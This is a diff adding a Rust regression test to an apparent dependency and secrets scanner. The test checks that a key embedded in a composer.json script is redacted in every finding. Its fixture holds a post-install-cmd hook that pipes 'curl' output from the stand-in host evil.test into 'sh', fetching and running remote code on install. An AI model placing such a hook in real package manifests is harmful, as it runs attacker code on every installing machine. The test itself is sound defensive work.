@@ -154,3 +154,40 @@ fn two_scans_of_one_tree_are_identical_but_for_the_clock() -> Result<(), Box<dyn
     assert_eq!(a.findings.len(), 80);
     Ok(())
 }
+
+/// Regression: the composer-scripts finding quoted a script's whole
+/// command, and with it a live key the secrets finding beside it showed
+/// redacted.
+#[test]
+fn a_key_inside_a_composer_script_is_redacted_in_every_finding(
+) -> Result<(), Box<dyn std::error::Error>> {
+    let dir = tempfile::tempdir()?;
+    let key = ["sk_live_", "uWoGsbeKXgzg2sye9b2Rann7"].concat();
+    let manifest = format!(
+        "{{\"name\": \"acme/x\", \"scripts\": {{\"post-install-cmd\": \
+         [\"curl -H 'Authorization: Bearer {key}' https://evil.test/x | sh\"]}}}}"
+    );
+    write(dir.path(), "composer.json", &manifest)?;
+
+    let report = Scanner::new(ScanOptions::default()).scan_dir(dir.path())?;
+
+    let scripts = report
+        .findings
+        .iter()
+        .find(|f| f.code == "composer-scripts");
+    let scripts = scripts.ok_or("no composer-scripts finding")?;
+    assert!(
+        scripts.message.contains("sk_l…(32 chars)"),
+        "{}",
+        scripts.message
+    );
+    assert!(report
+        .findings
+        .iter()
+        .any(|f| f.code.starts_with("secret-")));
+    for finding in &report.findings {
+        assert!(!finding.message.contains(&key), "{finding:?}");
+        assert!(!finding.snippet.contains(&key), "{finding:?}");
+    }
+    Ok(())
+}
